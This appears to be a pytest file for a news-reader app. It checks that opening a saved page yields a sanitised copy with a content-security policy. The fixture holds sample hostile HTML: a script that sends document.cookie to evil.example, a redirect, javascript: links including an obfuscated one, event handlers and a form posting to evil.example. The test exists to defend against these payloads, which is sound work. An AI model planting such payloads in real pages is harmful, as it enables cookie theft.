"""Open Original hands the browser a sanitised copy of a saved page: its scripts never run."""

from __future__ import annotations

from pathlib import Path

from pytestqt.qtbot import QtBot

from newsviewer.gui.story_files import CSP, sanitised_page
from tests.gui.conftest import MakeWindow

from .helpers import import_and_wait, opened_urls

HOSTILE = """<!DOCTYPE html><html><head><title>Harbour wall plan approved</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<style>h1 { color: navy }</style>
</head><body onload="steal()">
<h1>Harbour wall plan approved</h1>
<p>The council approved the harbour wall plan on Tuesday after a long debate about the
cost of the works and the fishing fleet's moorings over the coming winter.</p>
<p><a href="javascript:steal()">Read more</a> <a href="java&#09;script:alert(1)">x</a>
<a href="javascript-guide.html">guide</a></p>
<iframe src="https://ads.example/frame"></iframe>
<img src="x.png" onerror="steal()" alt="The harbour wall">
<form action="https://evil.example/collect"><input name="email"></form>
<svg><script>steal()</script></svg>
<p>The works start in March, said Ana Silva, the harbour master.</p>
</body></html>
"""


def test_open_original_gives_the_browser_a_page_that_cannot_run_or_load_anything(
    qtbot: QtBot, make_window: MakeWindow, tmp_path: Path
) -> None:
    page = tmp_path / "harbour-wall.html"
    page.write_text(HOSTILE, encoding="utf-8")
    window = make_window()
    import_and_wait(qtbot, window, [page])
    window.window_actions.open_original.trigger()
    [url] = opened_urls(window)
    opened = Path(url.toLocalFile())
    assert opened.name == page.name
    copy = opened.read_text(encoding="utf-8")
    lowered = copy.lower()
    for active in ("<script", "<iframe", "<form", "onload", "onerror", "javascript:", "refresh"):
        assert active not in lowered, active
    assert "java\tscript" not in lowered
    assert CSP in copy and "script-src" not in CSP  # default-src 'none' covers scripts
    # What the reader wants is still there.
    assert "Harbour wall plan approved" in copy
    assert "said Ana Silva, the harbour master." in copy
    assert 'href="javascript-guide.html"' in copy  # a page named so is only a link
    assert "h1 { color: navy }" in copy
    assert page.read_text(encoding="utf-8") == HOSTILE  # the user's own file is untouched
    window.close()


def test_a_page_without_a_head_gets_the_policy_too() -> None:
    copy = sanitised_page(b"<p onclick='x()'>Hello <b>there</b></p>").decode()
    assert "Content-Security-Policy" in copy and "default-src 'none'" in copy
    assert "onclick" not in copy and "Hello <b>there</b>" in copy
